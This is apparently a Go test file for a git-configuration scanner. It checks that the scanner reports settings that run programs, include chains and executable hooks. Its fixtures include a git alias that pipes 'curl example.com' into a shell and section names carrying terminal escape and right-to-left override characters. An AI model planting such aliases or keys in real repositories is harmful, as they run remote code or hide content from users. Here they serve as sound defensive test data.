package gitconfig

import (
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// repo makes a repository's git directory at dir/.git holding config.
func repo(t *testing.T, dir, config string) string {
	t.Helper()
	gitDir := filepath.Join(dir, ".git")
	for _, sub := range []string{"objects", "refs", "hooks"} {
		if err := os.MkdirAll(filepath.Join(gitDir, sub), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	put(t, filepath.Join(gitDir, "HEAD"), "ref: refs/heads/main\n")
	if config != "" {
		put(t, filepath.Join(gitDir, "config"), config)
	}
	return gitDir
}

func put(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func strs(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.String())
	}
	return out
}

func TestRepositoryIsFoundAsGitFindsIt(t *testing.T) {
	ctx := context.Background()
	top := t.TempDir()
	gitDir := repo(t, top, "")
	sub := filepath.Join(top, "a", "b")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if got, p := Repository(ctx, sub); got != gitDir || p != nil {
		t.Errorf("from a subdirectory: %q, %v", got, p)
	}
	// A .git file points elsewhere (a worktree, a submodule).
	elsewhere := repo(t, t.TempDir(), "")
	wt := t.TempDir()
	put(t, filepath.Join(wt, ".git"), "gitdir: "+elsewhere+"\n")
	if got, p := Repository(ctx, wt); got != elsewhere || p != nil {
		t.Errorf("through a .git file: %q, %v", got, p)
	}
	// A relative gitdir: is taken from the file's directory.
	rel := t.TempDir()
	repo(t, filepath.Join(rel, "real"), "")
	put(t, filepath.Join(rel, "w", ".git"), "gitdir: ../real/.git\n")
	if got, _ := Repository(ctx, filepath.Join(rel, "w")); got != filepath.Join(rel, "real", ".git") {
		t.Errorf("a relative gitdir: %q", got)
	}
	// A .git file that names nothing: git refuses, basis says so.
	bad := t.TempDir()
	put(t, filepath.Join(bad, ".git"), "gitdir: /no/such/dir\n")
	if got, p := Repository(ctx, bad); got != "" || p == nil || !strings.Contains(p.What, "names no repository") {
		t.Errorf("a .git file naming nothing: %q, %v", got, p)
	}
	// A .git file that is a FIFO is not waited on.
	fifo := t.TempDir()
	if err := mkfifo(filepath.Join(fifo, ".git")); err == nil {
		if got, p := Repository(ctx, fifo); got != "" && p == nil {
			t.Errorf("a FIFO .git: %q", got)
		}
	}
}

func TestCheckReportsProgramsIncludesAndHooks(t *testing.T) {
	ctx := context.Background()
	top := t.TempDir()
	home := t.TempDir()
	gitDir := repo(t, top, "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = .git/fsm.sh\n"+
		"[diff \"evil\x1b[2J\"]\n\ttextconv = x\n"+
		"[alias]\n\tst = status\n\tx = !curl example.com | sh\n"+
		"[include]\n\tpath = extra.cfg\n"+
		"[includeIf \"gitdir:/nowhere/\"]\n\tpath = ~/.inc\n"+
		"[include]\n\tpath = config\n") // itself: read once
	put(t, filepath.Join(gitDir, "extra.cfg"), "[core]\n\tpager = less\n[include]\n\tpath = extra.cfg\n")
	put(t, filepath.Join(home, ".inc"), "[credential]\n\thelper = x\n")
	put(t, filepath.Join(gitDir, "hooks", "pre-commit"), "#!/bin/sh\n")
	if err := os.Chmod(filepath.Join(gitDir, "hooks", "pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	put(t, filepath.Join(gitDir, "hooks", "pre-push.sample"), "#!/bin/sh\n")
	put(t, filepath.Join(gitDir, "hooks", "notes.txt"), "not executable\n")
	cfg, extra, inc := filepath.Join(gitDir, "config"), filepath.Join(gitDir, "extra.cfg"), filepath.Join(home, ".inc")
	want := []string{
		cfg + ":3: core.fsmonitor " + RunsProgram,
		cfg + `:5: diff.evil\x1b[2J.textconv ` + RunsProgram,
		cfg + ":8: alias.x " + RunsProgram,
		cfg + ":10: include.path " + Includes,
		extra + ":2: core.pager " + RunsProgram + " (included from " + cfg + ":10)",
		extra + ":4: include.path " + Includes + " (included from " + cfg + ":10)",
		cfg + ":12: includeif.gitdir:/nowhere/.path " + Includes,
		inc + ":2: credential.helper " + RunsProgram + " (included from " + cfg + ":12)",
		cfg + ":14: include.path " + Includes,
		filepath.Join(gitDir, "hooks") + ": hooks/pre-commit " + HookRuns,
	}
	if diff := cmp.Diff(want, strs(Check(ctx, gitDir, Options{Home: home}))); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

func TestCheckCleanRepositoryHasNoFindings(t *testing.T) {
	gitDir := repo(t, t.TempDir(), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = false\n[remote \"origin\"]\n\turl = https://example.com/x.git\n[alias]\n\tst = status\n")
	if got := Check(context.Background(), gitDir, Options{}); len(got) != 0 {
		t.Errorf("findings for a clean config: %q", strs(got))
	}
}

func TestCheckWorktreeReadsTheCommonConfig(t *testing.T) {
	main := repo(t, t.TempDir(), "[core]\n\tfsmonitor = x\n")
	wtGit := filepath.Join(main, "worktrees", "w")
	put(t, filepath.Join(wtGit, "HEAD"), "ref: refs/heads/w\n")
	put(t, filepath.Join(wtGit, "commondir"), "../..\n")
	put(t, filepath.Join(wtGit, "config.worktree"), "[core]\n\teditor = x\n")
	wt := t.TempDir()
	put(t, filepath.Join(wt, ".git"), "gitdir: "+wtGit+"\n")
	gitDir, p := Repository(context.Background(), wt)
	if gitDir != wtGit || p != nil {
		t.Fatalf("Repository = %q, %v", gitDir, p)
	}
	want := []string{
		filepath.Join(main, "config") + ":2: core.fsmonitor " + RunsProgram,
		filepath.Join(wtGit, "config.worktree") + ":2: core.editor " + RunsProgram,
	}
	if diff := cmp.Diff(want, strs(Check(context.Background(), gitDir, Options{}))); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

func TestCheckReportsWhatItCannotRead(t *testing.T) {
	ctx := context.Background()
	// Broken after a line: what came before is reported, and the rest is
	// said to be unchecked.
	gitDir := repo(t, t.TempDir(), "[core]\n\tpager = x\n\tbad_name = y\n\tfsmonitor = z\n")
	cfg := filepath.Join(gitDir, "config")
	want := []string{
		cfg + ":2: core.pager " + RunsProgram,
		cfg + ":3: cannot be read past this line by basis (git refuses such a file, or reads it otherwise); what follows was not checked",
	}
	if diff := cmp.Diff(want, strs(Check(ctx, gitDir, Options{}))); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	// Too large to read.
	big := repo(t, t.TempDir(), "[core]\n"+strings.Repeat("\tbare = false\n", MaxConfigSize/14+1))
	got := strs(Check(ctx, big, Options{}))
	if len(got) != 1 || !strings.Contains(got[0], "could not be checked") {
		t.Errorf("an oversized config: %q", got)
	}
	// Includes that never end stop at git's depth.
	deep := repo(t, t.TempDir(), "[include]\n\tpath = c0\n")
	for i := range MaxIncludeDepth + 2 {
		put(t, filepath.Join(deep, "c"+itoa(i)), "[include]\n\tpath = c"+itoa(i+1)+"\n")
	}
	got = strs(Check(ctx, deep, Options{}))
	if last := got[len(got)-1]; !strings.Contains(last, "deeper than git's 10 levels") {
		t.Errorf("deep includes: last finding %q", last)
	}
	// A missing included file is reported, not skipped.
	missing := repo(t, t.TempDir(), "[include]\n\tpath = nope\n")
	got = strs(Check(ctx, missing, Options{}))
	if len(got) != 2 || !strings.Contains(got[1], "nope: could not be checked") {
		t.Errorf("a missing include: %q", got)
	}
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestPrintableKey(t *testing.T) {
	tests := map[string]string{
		"core.pager":             "core.pager",
		"diff.\x1b[2J.textconv":  `diff.\x1b[2J.textconv`,
		"diff.\u202egnp.x":       `diff.\u202egnp.x`,
		"diff.a\\b.x":            `diff.a\\b.x`,
		"diff.\xff.x":            `diff.\xff.x`,
		strings.Repeat("a", 100): strings.Repeat("a", maxKeyLen) + "…",
		"diff.é.textconv":        "diff.é.textconv",
	}
	for in, want := range tests {
		if got := printable(in, maxKeyLen); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
}
